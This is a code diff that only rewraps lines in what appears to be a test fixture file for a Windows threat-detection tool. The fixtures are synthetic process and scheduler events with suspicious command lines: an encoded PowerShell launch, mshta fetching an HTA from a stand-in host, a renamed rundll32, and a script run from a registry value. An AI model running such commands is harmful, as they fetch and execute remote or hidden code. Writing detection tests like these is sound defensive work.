@@ -12,14 +12,20 @@ const start = (second, image, commandLine, more) =>
 
 const taskeng = {
   parentImage: `${SYSTEM32}\\taskeng.exe`,
-  parentCommandLine: 'taskeng.exe {A41E7C22-03B5-4A0E-8C0B-6D2F3B1C9E57} S-1-5-18:NT AUTHORITY\\System:Service:',
+  parentCommandLine:
+    'taskeng.exe {A41E7C22-03B5-4A0E-8C0B-6D2F3B1C9E57} S-1-5-18:NT AUTHORITY\\System:Service:',
 };
 
 export const recordings = {
   'started-user-script.xml': () => [
-    start(1, `${SYSTEM32}\\wscript.exe`, 'wscript.exe //B "C:\\Users\\m.keller\\AppData\\Local\\Temp\\r.vbs"', {
-      user: 'CORP\\m.keller',
-    }),
+    start(
+      1,
+      `${SYSTEM32}\\wscript.exe`,
+      'wscript.exe //B "C:\\Users\\m.keller\\AppData\\Local\\Temp\\r.vbs"',
+      {
+        user: 'CORP\\m.keller',
+      },
+    ),
     start(2, POWERSHELL.toUpperCase(), 'POWERSHELL -File "C:\\PROGRAMDATA\\n.ps1"'),
     start(3, 'C:\\Windows\\Temp\\r32.exe', 'r32.exe C:\\Windows\\Te^mp\\a.dll,Run', {
       originalName: 'RUNDLL32.EXE',
@@ -30,11 +36,22 @@ export const recordings = {
   'started-encoded.xml': () => [
     start(11, POWERSHELL, `powershell.exe -NoP -enc ${encoded}`),
     start(12, `${SYSTEM32}\\mshta.exe`, 'mshta https://cdn.northwind-update.example/n.hta'),
-    start(13, POWERSHELL, 'powershell -c "& ([scriptblock]::Create((gp HKCU:\\Software\\Northwind).d))"'),
+    start(
+      13,
+      POWERSHELL,
+      'powershell -c "& ([scriptblock]::Create((gp HKCU:\\Software\\Northwind).d))"',
+    ),
     start(14, `${SYSTEM32}\\cmd.exe`, 'c:\\Windows\\System32\\cmd.exe ', taskeng),
   ],
   'started-in-log.xml': () => [
-    schedulerEvent(129, { host: 'ws-014', at: at(21) }, '\\Sync', 'C:\\WINDOWS\\system32\\MSHTA.exe', '5120', '16384'),
+    schedulerEvent(
+      129,
+      { host: 'ws-014', at: at(21) },
+      '\\Sync',
+      'C:\\WINDOWS\\system32\\MSHTA.exe',
+      '5120',
+      '16384',
+    ),
     schedulerEvent(
       200,
       { host: 'ws-014', at: at(22) },
@@ -43,14 +60,40 @@ export const recordings = {
       '{3C0D0C11-7C58-4E2B-9C0F-1F4B6C1E7A20}',
       '1344',
     ),
-    schedulerEvent(129, { host: 'ws-014', at: at(23) }, '\\Microsoft\\Windows\\Printing\\Notify', 'rundll32.exe', '5124', '16384'),
+    schedulerEvent(
+      129,
+      { host: 'ws-014', at: at(23) },
+      '\\Microsoft\\Windows\\Printing\\Notify',
+      'rundll32.exe',
+      '5124',
+      '16384',
+    ),
   ],
   'started-near-windows.xml': () => [
-    start(31, `${SYSTEM32}\\rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe Startupscan.dll,SusRunTask'),
-    start(32, `${SYSTEM32}\\cmd.exe`, 'C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Program Files\\Npcap\\CheckStatus.bat"'),
-    start(33, POWERSHELL, 'powershell.exe -NoProfile -File "C:\\Program Files\\Contoso\\Agent\\inventory.ps1"'),
+    start(
+      31,
+      `${SYSTEM32}\\rundll32.exe`,
+      'C:\\Windows\\system32\\rundll32.exe Startupscan.dll,SusRunTask',
+    ),
+    start(
+      32,
+      `${SYSTEM32}\\cmd.exe`,
+      'C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Program Files\\Npcap\\CheckStatus.bat"',
+    ),
+    start(
+      33,
+      POWERSHELL,
+      'powershell.exe -NoProfile -File "C:\\Program Files\\Contoso\\Agent\\inventory.ps1"',
+    ),
     start(34, `${SYSTEM32}\\taskhostw.exe`, 'taskhostw.exe Logon'),
-    schedulerEvent(129, { host: 'ws-014', at: at(35) }, '\\Microsoft\\Windows\\Work Folders\\Sync', 'taskhostw.exe', '5132', '16384'),
+    schedulerEvent(
+      129,
+      { host: 'ws-014', at: at(35) },
+      '\\Microsoft\\Windows\\Work Folders\\Sync',
+      'taskhostw.exe',
+      '5132',
+      '16384',
+    ),
   ],
   'started-near-user.xml': () => [
     typed({
@@ -64,6 +107,10 @@ export const recordings = {
     start(42, `${SYSTEM32}\\cmd.exe`, 'cmd /c C:\\Users\\Public\\run.bat', {
       parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc',
     }),
-    start(43, `${SYSTEM32}\\notepad.exe`, 'notepad.exe C:\\Users\\m.keller\\Documents\\powershell.txt'),
+    start(
+      43,
+      `${SYSTEM32}\\notepad.exe`,
+      'notepad.exe C:\\Users\\m.keller\\Documents\\powershell.txt',
+    ),
   ],
 };
